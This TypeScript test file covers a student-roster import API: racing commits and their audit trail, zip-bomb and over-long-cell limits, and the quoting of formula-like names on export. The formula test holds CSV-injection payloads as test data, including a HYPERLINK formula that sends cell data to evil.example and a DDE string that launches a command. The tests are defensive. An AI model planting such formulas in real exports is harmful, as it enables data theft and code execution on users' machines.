import { parse } from 'csv-parse/sync';
import { asc, inArray, like } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../platform/audit/audit.tables.ts';
import { bombSheet, xlsxWith } from '../../platform/files/zip-fixtures.ts';
import { multipartFile } from '../../test/multipart.ts';
import { createTestContext, type TestClient, type TestContext } from '../../test/test-app.ts';
import { students } from '../org/org.tables.ts';

// Imports under attack and under load: racing commits keep a true audit
// trail, zip bombs get a clear 413, formula names survive a round trip.
// The races are real on PostgreSQL (DATABASE_URL); PGlite has one connection
// and serialises the two commits, which must give the same outcome.

let ctx: TestContext;
let admin: TestClient;
beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.as('admin');
});
afterAll(() => ctx.close());

const HEADER = '学号,姓名,性别,行政班代码,年级';
/** The reported bomb (15,000 rows × 32,000 characters), built once: deflating 480 MB takes seconds. */
let bombFile: Promise<Buffer> | undefined;
const reportedBomb = () => (bombFile ??= bombSheet(15_000, 32_000).then((sheet) => xlsxWith(sheet)));

function commit(file: Buffer | string, name = 'students.csv', lang: 'zh-CN' | 'en' = 'zh-CN') {
  const { payload, headers } = multipartFile(file, name);
  return admin.request('POST', '/api/imports/students', payload, { headers, lang, query: { dryRun: false } });
}

const csv = (codes: string[], name: (code: string) => string) => [HEADER, ...codes.map((c) => `${c},${name(c)},男,CS2401,2024`)].join('\n');
const codes = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => `${prefix}${String(i + 1).padStart(4, '0')}`);

interface AuditRow {
  action: string;
  entityId: string | null;
  before: { name?: string } | null;
  after: { name?: string; code?: string } | null;
}

/** students.create/update audit rows of these student ids, oldest first. */
async function auditOf(ids: number[]): Promise<Map<string, AuditRow[]>> {
  const rows = (await ctx.db
    .select({ action: auditLog.action, entityId: auditLog.entityId, before: auditLog.before, after: auditLog.after })
    .from(auditLog)
    .where(inArray(auditLog.entityId, ids.map(String)))
    .orderBy(asc(auditLog.id))) as AuditRow[];
  const byId = new Map<string, AuditRow[]>();
  for (const r of rows.filter((r) => r.action === 'students.create' || r.action === 'students.update')) {
    byId.set(r.entityId!, [...(byId.get(r.entityId!) ?? []), r]);
  }
  return byId;
}

async function studentsLike(prefix: string) {
  return ctx.db
    .select({ id: students.id, code: students.code, name: students.name })
    .from(students)
    .where(like(students.code, `${prefix}%`));
}

describe('parallel commits', () => {
  it('the same file twice at once: each change audited once with its real before-image, the data is the file', async () => {
    const stored = codes('RA', 150);
    const fresh = codes('NA', 150);
    expect((await commit(csv(stored, (c) => `原${c}`))).statusCode).toBe(200);
    const file = csv([...stored, ...fresh], (c) => `新${c}`);

    const [a, b] = await Promise.all([commit(file), commit(file)]);
    expect([a.statusCode, b.statusCode]).toEqual([200, 200]);
    expect(a.json().created + b.json().created).toBe(150);

    const all = [...(await studentsLike('RA')), ...(await studentsLike('NA'))];
    expect(all).toHaveLength(300);
    for (const s of all) expect(s.name).toBe(`新${s.code}`);
    const audit = await auditOf(all.map((s) => s.id));
    for (const s of all) {
      const trail = audit.get(String(s.id))!;
      const changes = trail.filter((r) => r.after?.name === `新${s.code}`);
      expect(changes).toHaveLength(1); // the second commit found the row identical: not written, not audited
      if (s.code.startsWith('RA')) expect(changes[0]).toMatchObject({ action: 'students.update', before: { name: `原${s.code}` } });
      else expect(changes[0]).toMatchObject({ action: 'students.create', before: null });
    }
  });

  it('two different files at once: every update’s before-image is the value it overwrote', async () => {
    const stored = codes('RB', 150);
    const fresh = codes('NB', 150);
    expect((await commit(csv(stored, (c) => `原${c}`))).statusCode).toBe(200);
    const all = [...stored, ...fresh];
    const [a, b] = await Promise.all([commit(csv(all, (c) => `甲${c}`)), commit(csv(all, (c) => `乙${c}`))]);
    expect([a.statusCode, b.statusCode]).toEqual([200, 200]);

    const rows = [...(await studentsLike('RB')), ...(await studentsLike('NB'))];
    const audit = await auditOf(rows.map((s) => s.id));
    for (const s of rows) {
      const trail = audit.get(String(s.id))!;
      const updates = trail.filter((r) => r.action === 'students.update');
      expect(updates.every((u) => u.before !== null)).toBe(true);
      // Each record's before is the previous record's after; the last after is what is stored.
      const chain = trail.filter((r) => r.after?.name !== `原${s.code}`);
      let current: string | undefined = s.code.startsWith('RB') ? `原${s.code}` : undefined;
      for (const r of chain) {
        if (r.action === 'students.create') expect(current).toBeUndefined();
        else expect(r.before?.name).toBe(current);
        current = r.after!.name;
      }
      expect(s.name).toBe(current);
      expect(chain).toHaveLength(2);
    }
  });
});

describe('limits over HTTP', () => {
  it('answers the reported zip bomb with 413 naming the limit, in Chinese and English, and keeps serving', async () => {
    const bomb = await reportedBomb();
    const results = await Promise.all([
      commit(bomb, 'bomb.xlsx'),
      commit(bomb, 'bomb.xlsx', 'en'),
      ...Array.from({ length: 4 }, () => commit(bomb, 'bomb.xlsx')),
    ]);
    for (const r of results) expect(r.statusCode).toBe(413);
    expect(results[0].json().error).toMatchObject({
      code: 'import_unpacked_too_large',
      message: 'XLSX 文件解压后过大（至少 459 MB，最多 100 MB）',
    });
    expect(results[1].json().error.message).toBe('The XLSX file is too large when unpacked (at least 459 MB, at most 100 MB)');
    expect((await admin.get('/api/students', { query: { pageSize: 1 } })).statusCode).toBe(200);
  });

  it('names the row and column of an over-long cell', async () => {
    const res = await commit(`${HEADER}\nL0001,${'长'.repeat(5_001)},男,CS2401,2024\n`);
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({
      code: 'import_cell_too_long',
      message: '第 2 行“B”列的单元格过长（5001 个字符，最多 5000 个）',
    });
  });
});

describe('catalog imports read through the same limits', () => {
  it.each(['courses', 'curriculum-plans'])('/api/imports/%s: a zip bomb gets 413, an over-long cell 400', async (path) => {
    const send = (file: Buffer | string, name: string) => {
      const { payload, headers } = multipartFile(file, name);
      return admin.request('POST', `/api/imports/${path}`, payload, { headers, query: { dryRun: true } });
    };
    const bomb = await send(await reportedBomb(), 'bomb.xlsx');
    expect(bomb.statusCode).toBe(413);
    expect(bomb.json().error.code).toBe('import_unpacked_too_large');
    const long = await send(`code,name\nX1,${'x'.repeat(5_001)}\n`, 'long.csv');
    expect(long.statusCode).toBe(400);
    expect(long.json().error.code).toBe('import_cell_too_long');
  });
});

describe('formula names', () => {
  it('export quotes them and importing that export gives back the same names', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '@SUM(1,1)', '+1+1', "=cmd|' /C calc'!A0"];
    const file = [HEADER, ...evil.map((n, i) => `F000${i},"${n.replace(/"/g, '""')}",男,CS2401,2024`)].join('\n');
    expect((await commit(file)).statusCode).toBe(200);

    const exported = await admin.get('/api/students/export', { query: { format: 'csv', q: 'F000' } });
    const rows = parse(exported.rawPayload, { bom: true }) as string[][];
    for (const n of evil) expect(rows.flat()).toContain(`'${n}`);

    const again = await commit(exported.rawPayload, 'students-export.csv');
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ created: 0, unchanged: 4 });
    expect((await studentsLike('F000')).map((s) => s.name).sort()).toEqual([...evil].sort());
  });
});
